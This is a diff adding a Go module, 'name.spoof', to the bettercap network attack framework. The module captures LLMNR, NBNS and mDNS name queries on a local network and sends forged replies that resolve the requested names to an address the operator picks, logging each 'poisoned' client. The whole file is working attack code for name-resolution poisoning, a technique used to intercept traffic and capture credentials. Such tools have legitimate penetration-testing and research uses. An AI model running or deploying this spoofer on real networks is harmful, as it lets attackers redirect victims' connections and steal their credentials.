@@ -0,0 +1,378 @@
+package modules
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+)
+
+// the QTYPE asking for all the records
+const dnsTypeANY = layers.DNSType(255)
+
+// NameSpoofPoisoned is the payload of name.spoof.poisoned events.
+type NameSpoofPoisoned struct {
+	Protocol  string `json:"protocol"`
+	Name      string `json:"name"`
+	Client    string `json:"client"`
+	ClientMAC string `json:"client_mac"`
+	Address   net.IP `json:"address"`
+}
+
+type NameSpoofer struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	Names         Hosts
+	address       net.IP
+	llmnr         bool
+	nbns          bool
+	mdns          bool
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewNameSpoofer(s *session.Session) *NameSpoofer {
+	spoof := &NameSpoofer{
+		SessionModule: session.NewSessionModule("name.spoof", s),
+		Handle:        nil,
+		Names:         Hosts{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	spoof.AddParam(session.NewStringParameter("name.spoof.names",
+		"",
+		"",
+		"Comma separated values of names to spoof (wildcards are supported), if empty every name is spoofed."))
+
+	spoof.AddParam(session.NewStringParameter("name.spoof.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"IP address to resolve the names to."))
+
+	spoof.AddParam(session.NewBoolParameter("name.spoof.llmnr",
+		"true",
+		"If true, answer the LLMNR queries."))
+
+	spoof.AddParam(session.NewBoolParameter("name.spoof.nbns",
+		"true",
+		"If true, answer the NetBIOS name queries."))
+
+	spoof.AddParam(session.NewBoolParameter("name.spoof.mdns",
+		"true",
+		"If true, answer the mDNS queries."))
+
+	spoof.AddParam(session.NewStringParameter("name.spoof.targets",
+		"",
+		"",
+		"If not empty, only the queries coming from this comma separated list of IP addresses, MAC addresses or aliases (also supports nmap style IP ranges) will be spoofed."))
+
+	spoof.AddHandler(session.NewModuleHandler("name.spoof on", "",
+		"Start the LLMNR, NBNS and mDNS spoofer in the background.",
+		func(args []string) error {
+			return spoof.Start()
+		}))
+
+	spoof.AddHandler(session.NewModuleHandler("name.spoof off", "",
+		"Stop the LLMNR, NBNS and mDNS spoofer in the background.",
+		func(args []string) error {
+			return spoof.Stop()
+		}))
+
+	return spoof
+}
+
+func (s NameSpoofer) Name() string {
+	return "name.spoof"
+}
+
+func (s NameSpoofer) Description() string {
+	return "Replies to LLMNR, NBNS and mDNS name queries with spoofed responses."
+}
+
+func (s NameSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+// filter returns the BPF filter matching the queries of the enabled
+// protocols.
+func (s *NameSpoofer) filter() string {
+	ports := make([]string, 0)
+	if s.llmnr {
+		ports = append(ports, fmt.Sprintf("dst port %d", packets.LLMNRPort))
+	}
+	if s.nbns {
+		ports = append(ports, fmt.Sprintf("dst port %d", packets.NBNSPort))
+	}
+	if s.mdns {
+		ports = append(ports, fmt.Sprintf("dst port %d", packets.MDNSPort))
+	}
+	return fmt.Sprintf("ip and udp and (%s)", strings.Join(ports, " or "))
+}
+
+func (s *NameSpoofer) Configure() error {
+	var err error
+	var names []string
+	var targets string
+
+	if s.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, s.llmnr = s.BoolParam("name.spoof.llmnr"); err != nil {
+		return err
+	} else if err, s.nbns = s.BoolParam("name.spoof.nbns"); err != nil {
+		return err
+	} else if err, s.mdns = s.BoolParam("name.spoof.mdns"); err != nil {
+		return err
+	} else if !s.llmnr && !s.nbns && !s.mdns {
+		return fmt.Errorf("at least one of name.spoof.llmnr, name.spoof.nbns and name.spoof.mdns must be true")
+	} else if err, s.address = s.IPParam("name.spoof.address"); err != nil {
+		return err
+	} else if err, names = s.ListParam("name.spoof.names"); err != nil {
+		return err
+	} else if err, targets = s.StringParam("name.spoof.targets"); err != nil {
+		return err
+	} else if s.addresses, s.macs, err = network.ParseTargets(targets, s.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if s.Handle, err = pcap.OpenLive(s.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = s.Handle.SetBPFFilter(s.filter()); err != nil {
+		return err
+	}
+
+	s.Names = Hosts{}
+	for _, name := range names {
+		s.Names = append(s.Names, NewHostEntry(strings.ToLower(name), s.address))
+	}
+
+	if len(s.Names) == 0 {
+		log.Info("[%s] * -> %s", core.Green("name.spoof"), s.address)
+	}
+	for _, entry := range s.Names {
+		log.Info("[%s] %s -> %s", core.Green("name.spoof"), entry.Host, entry.Address)
+	}
+
+	if len(s.addresses) > 0 || len(s.macs) > 0 {
+		log.Info("[%s] only spoofing queries from %d addresses and %d hardware addresses.", core.Green("name.spoof"), len(s.addresses), len(s.macs))
+	}
+
+	return nil
+}
+
+// matches returns true if name is one of name.spoof.names, mDNS names are
+// also matched without their .local domain.
+func (s *NameSpoofer) matches(name string) bool {
+	if len(s.Names) == 0 {
+		return true
+	}
+
+	name = strings.ToLower(strings.TrimSuffix(name, "."))
+	return s.Names.Find(name) != nil || s.Names.Find(strings.TrimSuffix(name, ".local")) != nil
+}
+
+func (s *NameSpoofer) reply(pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP, payload gopacket.SerializableLayer) error {
+	pip, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
+	if !ok {
+		return fmt.Errorf("not an IPv4 packet")
+	}
+
+	reth := layers.Ethernet{
+		SrcMAC:       s.Session.Interface.HW,
+		DstMAC:       eth.SrcMAC,
+		EthernetType: layers.EthernetTypeIPv4,
+	}
+
+	ip4 := layers.IPv4{
+		Protocol: layers.IPProtocolUDP,
+		Version:  4,
+		TTL:      64,
+		SrcIP:    s.Session.Interface.IP,
+		DstIP:    pip.SrcIP,
+	}
+
+	rudp := layers.UDP{
+		SrcPort: udp.DstPort,
+		DstPort: udp.SrcPort,
+	}
+	rudp.SetNetworkLayerForChecksum(&ip4)
+
+	err, raw := packets.Serialize(&reth, &ip4, &rudp, payload)
+	if err != nil {
+		return err
+	}
+
+	return s.Send(raw)
+}
+
+func (s *NameSpoofer) poisoned(protocol string, name string, pkt gopacket.Packet, eth *layers.Ethernet) {
+	client := ""
+	if nlayer := pkt.NetworkLayer(); nlayer != nil {
+		client = nlayer.NetworkFlow().Src().String()
+	}
+
+	who := client
+	if t, found := s.Session.Lan.Get(eth.SrcMAC.String()); found {
+		who = t.String()
+	}
+
+	log.Info("[%s] sending spoofed %s reply for %s %s to %s.", core.Green("name.spoof"), protocol, core.Red(name), core.Dim(fmt.Sprintf("(->%s)", s.address)), core.Bold(who))
+
+	s.Session.Events.Add("name.spoof.poisoned", NameSpoofPoisoned{
+		Protocol:  protocol,
+		Name:      name,
+		Client:    client,
+		ClientMAC: eth.SrcMAC.String(),
+		Address:   s.address,
+	})
+}
+
+// buildNameReply answers the A and ANY questions of an LLMNR or mDNS query,
+// mDNS only echoes the questions to legacy unicast resolvers.
+func buildNameReply(req *layers.DNS, names []string, address net.IP, mdns bool, legacy bool) *layers.DNS {
+	reply := &layers.DNS{
+		ID:     req.ID,
+		QR:     true,
+		OpCode: layers.DNSOpCodeQuery,
+		AA:     mdns,
+	}
+
+	if !mdns || legacy {
+		reply.Questions = req.Questions
+		reply.QDCount = req.QDCount
+	}
+
+	class := layers.DNSClassIN
+	if mdns && !legacy {
+		// cache flush, we're the only owner of the name
+		class = layers.DNSClass(0x8001)
+	}
+
+	for _, name := range names {
+		reply.Answers = append(reply.Answers, layers.DNSResourceRecord{
+			Name:  []byte(name),
+			Type:  layers.DNSTypeA,
+			Class: class,
+			TTL:   30,
+			IP:    address,
+		})
+	}
+	reply.ANCount = uint16(len(reply.Answers))
+
+	return reply
+}
+
+func (s *NameSpoofer) onDNSQuery(protocol string, pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP) {
+	req := layers.DNS{}
+	if err := req.DecodeFromBytes(udp.Payload, gopacket.NilDecodeFeedback); err != nil {
+		return
+	} else if req.QR || req.OpCode != layers.DNSOpCodeQuery || len(req.Answers) > 0 {
+		return
+	}
+
+	names := make([]string, 0)
+	for _, q := range req.Questions {
+		if (q.Type == layers.DNSTypeA || q.Type == dnsTypeANY) && s.matches(string(q.Name)) {
+			names = append(names, string(q.Name))
+		}
+	}
+
+	if len(names) == 0 {
+		return
+	}
+
+	mdns := protocol == "mdns"
+	reply := buildNameReply(&req, names, s.address, mdns, udp.SrcPort != packets.MDNSPort)
+	if err := s.reply(pkt, eth, udp, reply); err != nil {
+		log.Error("error sending %s reply: %s", protocol, err)
+		return
+	}
+
+	s.poisoned(protocol, strings.Join(names, ","), pkt, eth)
+}
+
+func (s *NameSpoofer) onNBNSQuery(pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP) {
+	q, ok := packets.NBNSParseQuery(udp.Payload)
+	if !ok || !s.matches(q.Name) {
+		return
+	}
+
+	reply := gopacket.Payload(packets.NewNBNSResponse(q, s.address))
+	if err := s.reply(pkt, eth, udp, reply); err != nil {
+		log.Error("error sending nbns reply: %s", err)
+		return
+	}
+
+	s.poisoned("nbns", fmt.Sprintf("%s<%02x>", q.Name, q.Suffix), pkt, eth)
+}
+
+func (s *NameSpoofer) onPacket(pkt gopacket.Packet) {
+	eth, isEth := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	udp, isUDP := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	if !isEth || !isUDP || bytes.Equal(eth.SrcMAC, s.Session.Interface.HW) {
+		return
+	}
+
+	if !inTargets(pkt, eth, s.addresses, s.macs) {
+		log.Debug("skipping name query from %s, not a target.", eth.SrcMAC)
+		return
+	} else if s.Session.Paused() {
+		// let the real owners of the names answer until the session is resumed
+		return
+	}
+
+	switch int(udp.DstPort) {
+	case packets.LLMNRPort:
+		if s.llmnr {
+			s.onDNSQuery("llmnr", pkt, eth, udp)
+		}
+	case packets.MDNSPort:
+		if s.mdns {
+			s.onDNSQuery("mdns", pkt, eth, udp)
+		}
+	case packets.NBNSPort:
+		if s.nbns {
+			s.onNBNSQuery(pkt, eth, udp)
+		}
+	}
+}
+
+func (s *NameSpoofer) Start() error {
+	if err := s.Configure(); err != nil {
+		return err
+	}
+
+	return s.SetRunning(true, func() {
+		s.waitGroup.Add(1)
+		defer s.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(s.Handle, s.Handle.LinkType())
+		s.pktSourceChan = src.Packets()
+		for packet := range s.pktSourceChan {
+			if !s.Running() {
+				break
+			}
+
+			s.FrameReceived()
+			s.onPacket(packet)
+		}
+	})
+}
+
+func (s *NameSpoofer) Stop() error {
+	return s.SetRunning(false, func() {
+		s.pktSourceChan <- nil
+		s.Handle.Close()
+		s.waitGroup.Wait()
+	})
+}